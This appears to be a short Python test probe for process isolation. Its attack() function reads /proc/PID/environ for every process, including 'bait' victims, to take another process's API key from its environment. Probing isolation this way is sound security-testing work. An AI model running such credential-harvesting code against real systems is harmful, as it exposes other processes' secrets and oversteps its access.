"""Other processes' environments (the server's holds an API key): /proc/PID/environ, every process listed."""

import os

from _bait import victims


def read(path):
    with open(path, "rb") as f:
        return f.read().decode(errors="replace")


def attack():
    """Read the server's environment.

    >>> attack()
    'report'
    """
    found = []
    for pid in [*victims(), *(int(p) for p in os.listdir("/proc") if p.isdigit())]:
        try:
            found.append(f"{pid}: {read(f'/proc/{pid}/environ')}")
        except OSError as exc:
            found.append(f"{pid}: {type(exc).__name__}")
    return f"own: {sorted(os.environ)}; " + "; ".join(found)
